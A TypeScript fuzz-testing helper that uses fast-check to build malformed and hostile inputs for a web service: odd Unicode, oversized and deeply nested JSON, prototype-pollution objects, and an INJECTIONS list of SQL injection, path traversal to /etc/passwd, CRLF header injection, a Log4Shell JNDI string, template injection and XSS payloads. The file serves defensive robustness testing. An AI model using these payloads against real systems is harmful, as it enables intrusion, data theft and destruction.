import fc from 'fast-check';

/** A fragment of JSON text, sent exactly as written: numbers JSON.stringify cannot make, deep nesting, `__proto__` keys. */
export class RawJson {
  constructor(readonly text: string) {}
}

/** JSON text for a value that may hold RawJson fragments; keys set with defineProperty stay own keys. */
export function serialize(value: unknown): string {
  if (value instanceof RawJson) return value.text;
  if (Array.isArray(value)) return `[${value.map(serialize).join(',')}]`;
  if (value !== null && typeof value === 'object') {
    const entries = Object.keys(value).map(
      (k) => `${JSON.stringify(k)}:${serialize((value as Record<string, unknown>)[k])}`,
    );
    return `{${entries.join(',')}}`;
  }
  return JSON.stringify(value) ?? 'null';
}

/** Sets a key as an own property, even `__proto__`, which plain assignment would take as the prototype. */
export function setOwn(target: object, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, writable: true, configurable: true });
}

const LONE_SURROGATES = ['\ud800', '\udfff', 'a\ud83d', '\ude00b', '\udbff\udbff'];
const ODD = [
  '\u0000',
  'a\u0000b',
  '\u202e', // right-to-left override
  '\u200f',
  '\u0627\u0644\u0639\u0631\u0628\u064a\u0629',
  '\u200b',
  '\ufeff',
  'e\u0301\u0301\u0301', // stacked combining marks
  'Z\u0336\u0337\u0338',
  '\u{1f600}',
  '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}',
  '\uffff',
  '\u{10ffff}',
  '\u2028\u2029',
  '\r\n',
  '\t',
  '\\',
  '"',
  "'",
  '\u00a0',
  '\u0130',
  '\u00df',
  '\u0085',
  '\u001b[31m',
];
export const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE assets; --",
  '" OR ""="',
  "1' UNION SELECT password_hash FROM users --",
  "demo'--",
  '%',
  '_',
  '\\x00',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd\u0000.txt',
  'x\r\nSet-Cookie: session=stolen',
  'x\nX-Injected: 1',
  '${jndi:ldap://example.com/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '{"$gt":""}',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  'NaN',
  '-1',
  '0x10',
  '1e309',
  'true',
  '',
  ' ',
];
export const PROTOTYPE_KEYS = ['__proto__', 'constructor', 'prototype'];

/** Strings nobody types: lone surrogates, NUL, bidi controls, combining marks, emoji, injections. */
export const oddString: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      fc.constantFrom(...LONE_SURROGATES, ...ODD, ...INJECTIONS),
      fc.string({ unit: 'binary', maxLength: 6 }),
      fc.string({ maxLength: 6 }),
    ),
    { minLength: 1, maxLength: 8 },
  )
  .map((parts) => parts.join(''));

export const hugeString: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom(5_000, 60_000, 300_000),
    fc.constantFrom('a', '\u00e9', '\u{1f600}', '\u0000', 'a\ud800'),
  )
  .map(([n, unit]) => unit.repeat(Math.ceil(n / unit.length)));

const numbers: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(
    0,
    -1,
    1.5,
    -0,
    2 ** 31 - 1,
    2 ** 31,
    -(2 ** 31) - 1,
    2 ** 53,
    2 ** 64,
    1e308,
    99999999999999,
  ),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc
    .constantFrom('1e400', '-1e400', '123456789012345678901234567890', '1.0', '-0', '1E2')
    .map((t) => new RawJson(t)),
);

export function deepJson(depth: number, kind: 'array' | 'object'): RawJson {
  return kind === 'array'
    ? new RawJson(`${'['.repeat(depth)}${']'.repeat(depth)}`)
    : new RawJson(`${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`);
}

const deep = fc
  .tuple(fc.constantFrom(40, 200, 2_000, 12_000), fc.constantFrom('array' as const, 'object' as const))
  .map(([depth, kind]) => deepJson(depth, kind));

const prototypeObject = fc
  .tuple(
    fc.constantFrom(...PROTOTYPE_KEYS),
    fc.constantFrom('{"polluted":true}', '{"prototype":{"polluted":true}}', '1', 'null'),
  )
  .map(([key, inner]) => new RawJson(`{"${key}":${inner}}`));

/** Any value a field should not accept, or only just accepts. */
export const nastyValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(null, true, false, '', [], {}, [null], 'x'),
  numbers,
  oddString,
  fc.constantFrom(...INJECTIONS),
  hugeString,
  deep,
  prototypeObject,
  fc.array(oddString, { maxLength: 3 }),
  fc.jsonValue({ maxDepth: 3 }),
);

// Node itself answers a request head over 16 KB with a bare 431 before the app sees it, so long
// segments, query strings and headers stay well under that together.

/** A path segment, already percent-encoded where it needs to be, or deliberately not. */
export const nastySegment: fc.Arbitrary<string> = fc.oneof(
  fc.oneof(oddString, fc.constantFrom(...INJECTIONS)).map(encodeLoosely),
  fc.constantFrom(
    '%',
    '%zz',
    '%ED%A0%80',
    '%C0%AF',
    '%00',
    '%2e%2e',
    '..',
    '.',
    '%2F',
    '%20',
    'a%00b',
    '%FF%FE',
  ),
  fc.constantFrom(300, 1_500).map((n) => 'x'.repeat(n)),
);

/** encodeURIComponent, except that lone surrogates (which it refuses) go through as U+FFFD's bytes. */
export function encodeLoosely(text: string): string {
  try {
    return encodeURIComponent(text);
  } catch {
    return [...Buffer.from(text, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');
  }
}

/** Header values Node will put on the wire: tab, visible ASCII, Latin-1. */
export const headerValue: fc.Arbitrary<string> = fc.oneof(
  fc.string({
    unit: fc.integer({ min: 0x20, max: 0xff }).map((c) => String.fromCharCode(c === 0x7f ? 0x20 : c)),
    maxLength: 300,
  }),
  fc.constantFrom('', ' ', 'x'.repeat(1_000), "' OR 1=1 --", '../../etc/passwd', '\t'),
);
